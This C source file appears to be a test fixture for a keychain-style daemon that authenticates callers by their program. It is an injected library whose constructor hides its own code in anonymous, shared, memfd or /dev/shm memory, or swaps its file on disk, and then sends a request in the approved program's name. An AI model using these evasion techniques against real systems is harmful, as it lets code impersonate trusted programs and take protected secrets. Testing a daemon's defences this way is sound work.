/*
 * A library, loaded into an approved program, that asks in its name and hides first. The environment says how:
 *
 *   HIDE   anonymous, shared, sysv, memfd, devshm   moves itself to such memory; its file is mapped no more
 *          renamed     puts the file GOOD into its own place again, the file HERE
 *          written     keeps copies of its pages and writes GOOD into its own file HERE
 *          asleep      may not be executed while the daemon looks at the program; no code but the C library's runs then
 *   CLOSE  a descriptor to be closed
 *   SOCKET, REQUEST
 */
#include "hide.h"
#include <sys/shm.h>

extern char etext __attribute__((visibility("hidden")));

/* For LD_AUDIT. */
unsigned la_version(unsigned version)
{
    return version;
}

double cbrt(double number)
{
    return number;
}

static void move_to_segment(void)
{
    int id = shmget(IPC_PRIVATE, LENGTH, IPC_CREAT | 0700);
    void *copy = shmat(id, NULL, 0);
    if (id < 0 || copy == (void *)-1)
        fail("shmat");
    memcpy(copy, START, LENGTH);
    shmdt(copy);
    void *moved = shmat(id, START, SHM_REMAP | SHM_EXEC);
    shmctl(id, IPC_RMID, NULL);
    if (moved != START)
        fail("shmat");
}

static int in_memory_folder(void)
{
    char path[64];
    snprintf(path, sizeof path, "/dev/shm/keychain-auth-it-%d", getpid());
    int fd = open(path, O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0700);
    unlink(path);
    return fd;
}

static void write_good(void)
{
    char bytes[65536];
    int from = open(getenv("GOOD"), O_RDONLY | O_CLOEXEC), to = open(getenv("HERE"), O_WRONLY | O_CLOEXEC);
    off_t at = 0;
    for (ssize_t n; (n = read(from, bytes, sizeof bytes)) > 0; at += n)
        if (pwrite(to, bytes, (size_t)n, at) != n)
            fail("write");
    if (to < 0 || ftruncate(to, at) != 0)
        fail("write");
}

/* Own copies of all pages. Behind the code lie pages that are not of the file: they stay as they are. */
static void keep_pages(void)
{
    char *code_end = START + ((size_t)(&etext - START + 4095) & ~4095UL);
    if (mprotect(START, (size_t)(code_end - START), ANY) != 0 ||
        mprotect(code_end, LENGTH - (size_t)(code_end - START), PROT_READ | PROT_WRITE) != 0)
        fail("mprotect");
    for (volatile char *page = START; page < START + LENGTH; page += 4096)
        *page = *page;
}

__attribute__((constructor)) static void steal(void)
{
    if (getenv("CLOSE"))
        close(atoi(getenv("CLOSE")));
    const char *how = getenv("HIDE") ? getenv("HIDE") : "";
    if (strcmp(how, "anonymous") == 0)
        move_to(MAP_PRIVATE | MAP_ANONYMOUS, -1);
    else if (strcmp(how, "shared") == 0)
        move_to(MAP_SHARED | MAP_ANONYMOUS, -1);
    else if (strcmp(how, "sysv") == 0)
        move_to_segment();
    else if (strcmp(how, "memfd") == 0)
        move_to(MAP_SHARED, memfd_create("code", MFD_CLOEXEC));
    else if (strcmp(how, "devshm") == 0)
        move_to(MAP_SHARED, in_memory_folder());
    else if (strcmp(how, "renamed") == 0 && rename(getenv("GOOD"), getenv("HERE")) != 0)
        fail("rename");
    else if (strcmp(how, "written") == 0) {
        keep_pages();
        write_good();
    }
    int fd = strcmp(how, "asleep") == 0 ? dial_asleep(getenv("SOCKET")) : dial(getenv("SOCKET"), SOCK_CLOEXEC);
    ask(fd, getenv("REQUEST"));
}
